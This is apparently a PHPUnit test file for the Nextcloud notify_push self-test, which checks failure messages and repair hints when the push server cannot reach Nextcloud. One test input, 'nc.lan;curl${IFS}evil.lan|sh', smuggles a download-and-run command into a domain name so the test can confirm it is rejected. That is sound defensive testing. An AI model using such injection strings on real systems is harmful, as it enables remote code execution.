<?php

declare(strict_types=1);

// SPDX-License-Identifier: AGPL-3.0-or-later

namespace OCA\NotifyPush\Tests\SelfTest\Hop;

use OCA\NotifyPush\SelfTest\Hop;
use OCA\NotifyPush\SelfTest\PushRedis;
use OCA\NotifyPush\SelfTest\Status;
use OCA\NotifyPush\Tests\SelfTest\SelfTestCase;

/** Whether the push server reaches Nextcloud. */
class NextcloudTest extends SelfTestCase {
	/** @dataProvider nextclouds */
	public function testThePushServerCannotReachNextcloud(string $answer, string $summary, string $repair): void {
		$this->system['trusted_domains'] = [0 => 'localhost', 3 => 'cloud.example.com'];
		$this->system['overwrite.cli.url'] = 'https://cloud.example.com/';
		$checks = $this->test(['nextcloud' => ['/test/reverse_cookie' => $answer]]);
		self::assertSame(Status::Fail, $checks['nextcloud']->status);
		self::assertStringContainsString($summary, $checks['nextcloud']->summary);
		self::assertStringContainsString($repair, self::repair($checks['nextcloud']));
		self::assertSame(Status::Skipped, $checks['trusted-proxy']->status);
	}

	public static function nextclouds(): array {
		$error = 'Error while connecting to nextcloud: ';
		return [
			'untrusted domain' => [
				'nc.lan is not configured as a trusted domain for the nextcloud server', 'nc.lan is not a trusted domain',
				'occ config:system:set trusted_domains 4 --value=nc.lan',
			],
			'certificate' => [$error . 'SSL certificate problem: self-signed certificate', 'certificate', 'NEXTCLOUD_CA='],
			'no connection' => [$error . 'Connection refused', 'cannot reach Nextcloud', 'NEXTCLOUD_URL=https://cloud.example.com'],
			'no name' => [$error . 'Could not resolve host', 'cannot resolve', 'NEXTCLOUD_CONNECT=127.0.0.1:443'],
			'maintenance' => [$error . 'HTTP 503: maintenance mode', 'maintenance', 'occ maintenance:mode --off'],
			'refused' => [$error . 'HTTP 403 Forbidden', 'refuses', 'header "token"'],
			'something else' => [$error . 'HTTP 404 Not Found', 'something else', 'NEXTCLOUD_URL'],
			'locked out' => [$error . 'HTTP 429', 'locked', 'bruteforce'],
		];
	}

	/** @dataProvider names */
	public function testOnlyANameIsOfferedAsATrustedDomain(string $answered, array $missing): void {
		$answer = "$answered is not configured as a trusted domain for the nextcloud server";
		$check = $this->test(['nextcloud' => ['/test/reverse_cookie' => $answer]])['nextcloud'];
		self::assertSame($missing, $check->missing);
		self::assertSame($missing === [], !str_contains(self::repair($check), 'trusted_domains'));
	}

	public static function names(): array {
		return [
			['nc.lan:8080', ['trusted_domains' => ['nc.lan:8080']]],
			['[fd00::1]:80', ['trusted_domains' => ['[fd00::1]:80']]],
			['nc.lan;curl${IFS}evil.lan|sh', []],
			['*', []],
		];
	}

	public function testThePushServerTalksToAnotherNextcloud(): void {
		$start = microtime(true);
		$checks = $this->test(['nextcloud' => ['/test/reverse_cookie' => '12345']]);
		self::assertStringContainsString('another Nextcloud', $checks['nextcloud']->summary);
		// An old number may come out of a cache of Nextcloud: that deserves some patience, but not for ever.
		self::assertGreaterThan(3.0, microtime(true) - $start);
		self::assertLessThan(15.0, microtime(true) - $start);
	}

	public function testAnOldNumberFromACacheIsWaitedFor(): void {
		$port = $this->startServer();
		$this->faults(['nextcloud' => ['/test/reverse_cookie' => '12345']]);
		$context = $this->context("http://127.0.0.1:$port");
		$hop = new Hop\Nextcloud($this->http(), $this->config(), $this->l());
		$this->raw()->set('test-token', $context->token);
		$fixer = proc_open(['/bin/sh', '-c', 'sleep 1; printf "{\"nextcloud\":{\"/test/reverse_cookie\":\"' . $context->cookie . '\"}}" > '
			. self::$folder . '/faults.json'], [], $pipes);
		self::assertSame(Status::Pass, $hop->run($context)->status);
		proc_close($fixer);
	}

	/** @dataProvider refusedHops */
	public function testARedisThatIsSlowForAMomentIsWaitedFor(string $id, string $path): void {
		$port = $this->startServer();
		$this->faults(['nextcloud' => [$path => 'HTTP 403 Forbidden']]);
		$context = $this->context("http://127.0.0.1:$port");
		$this->raw()->set('test-token', $context->token);
		$hop = $id === 'nextcloud'
			? new Hop\Nextcloud($this->http(), $this->config(), $this->l())
			: new Hop\TrustedProxy($this->http(), new PushRedis($this->queue()), $this->config(), $this->l());
		$faults = json_encode(['nextcloud' => ['/test/reverse_cookie' => (string)$context->cookie]]);
		$command = ['/bin/sh', '-c', 'sleep 1; printf %s "$1" >"$2"', 'sh', $faults, self::$folder . '/faults.json'];
		$fixer = proc_open($command, [], $pipes);
		$start = microtime(true);
		self::assertSame(Status::Pass, $hop->run($context)->status);
		self::assertGreaterThan(0.5, microtime(true) - $start);
		proc_close($fixer);
	}

	public static function refusedHops(): array {
		return [['nextcloud', '/test/reverse_cookie'], ['trusted-proxy', '/test/remote/203.0.113.77']];
	}
}
